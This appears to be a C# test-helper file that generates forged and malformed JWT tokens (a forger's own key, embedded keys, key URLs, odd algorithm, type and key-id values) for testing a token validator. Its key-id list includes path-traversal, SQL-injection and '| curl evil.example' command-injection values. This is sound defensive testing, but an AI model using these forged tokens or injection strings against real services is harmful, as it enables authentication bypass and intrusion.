using System.Buffers.Text;
using System.Text;
using System.Text.Json.Nodes;
using SloFunctions.Testing.Servers;

namespace SloFunctions.Testing.Tokens;

/// <summary>Tokens whose header leads elsewhere. Those named "own key" are signed by the forger.</summary>
internal static class WrongHeaders
{
    private static readonly Lazy<IssuerKeys> Forger = new(() => new IssuerKeys("forger"));

    public static IEnumerable<(string Name, Func<TokenIssuer, string> Make)> All =>
    [
        .. KeyIds.Select(k => Forged($"own key, named {k.Name}", (h, i) => h["kid"] = k.Id)),
        Forged("own key, named as the issuer's", (_, _) => { }),
        Forged("own key, not named", (h, _) => h.Remove("kid")),
        Forged("own key, in the header", (h, _) => Embed(h)),
        Forged("own key, in the header under the issuer's name", (h, i) => Embed(h)["kid"] = i.Keys.RsaId),
        Forged("own key, at an address", (h, i) => h["jku"] = $"{i.Issuer}/forged/keys"),
        Forged("own certificate, at an address", (h, i) => h["x5u"] = $"{i.Issuer}/forged/certificate"),
        Forged("own certificate, in the header", (h, _) => h["x5c"] = new JsonArray(Convert.ToBase64String(Forger.Value.Rsa.ExportRSAPublicKey()))),
        Signed("a header that asks for what nobody knows", (h, _) => Demand(h, "exp")["exp"] = 1),
        Signed("a header that asks for nothing", (h, _) => h["crit"] = new JsonArray()),
        Signed("a header that leaves the payload as it is", (h, _) => Demand(h, "b64")["b64"] = false),
        Signed("the type of a logout", (h, _) => h["typ"] = "logout+jwt"),
        Signed("the type of an encrypted token", (h, _) => h["typ"] = "JWE"),
        Signed("a type that is a number", (h, _) => h["typ"] = 1),
        Signed("an empty type", (h, _) => h["typ"] = ""),
        Signed("a key's name that is a number", (h, _) => h["kid"] = 1),
        Signed("a key's name that is a list", (h, i) => h["kid"] = new JsonArray(i.Keys.RsaId)),
        Signed("a key's name of null", (h, _) => h["kid"] = null),
        Signed("an empty key's name", (h, _) => h["kid"] = ""),
        Signed("the name of the other key", (h, i) => h["kid"] = i.Keys.EcId),
        Signed("no algorithm", (h, _) => h.Remove("alg")),
        Signed("an algorithm that is a number", (h, _) => h["alg"] = 1),
        Signed("an algorithm that is a list", (h, _) => h["alg"] = new JsonArray("RS256")),
        Signed("an algorithm in small letters", (h, _) => h["alg"] = "rs256"),
        Signed("an algorithm with a space", (h, _) => h["alg"] = "RS256 "),
    ];

    private static IEnumerable<(string Name, string Id)> KeyIds =>
    [
        ("by a path", "../../../../dev/null"),
        ("by a query", "x' UNION SELECT 'key' --"),
        ("by an address", "https://evil.example/key"),
        ("by a command", "| curl evil.example"),
        ("by a null character", "key0-rsa\0"),
        ("by 1,000 characters", new string('k', 1000)),
        ("by a million characters", new string('k', 1_000_000)),
    ];

    private static (string Name, Func<TokenIssuer, string> Make) Signed(string name, Action<JsonObject, TokenIssuer> change)
    {
        return (name, Make);

        string Make(TokenIssuer issuer)
        {
            var header = issuer.Header();
            change(header, issuer);
            return issuer.Sign(header.ToJsonString(), issuer.Claims().ToJsonString());
        }
    }

    private static (string Name, Func<TokenIssuer, string> Make) Forged(string name, Action<JsonObject, TokenIssuer> change)
    {
        return (name, Make);

        string Make(TokenIssuer issuer)
        {
            var header = issuer.Header();
            change(header, issuer);
            string signed = $"{Encode(header)}.{Encode(issuer.Claims())}";
            return $"{signed}.{Base64Url.EncodeToString(Forger.Value.Sign("RS256", signed))}";
        }
    }

    private static JsonObject Embed(JsonObject header)
    {
        header["jwk"] = Forger.Value.RsaJwk();
        header["kid"] = Forger.Value.RsaId;
        return header;
    }

    private static JsonObject Demand(JsonObject header, string name)
    {
        header["crit"] = new JsonArray(name);
        return header;
    }

    private static string Encode(JsonObject part) => Base64Url.EncodeToString(Encoding.UTF8.GetBytes(part.ToJsonString()));
}
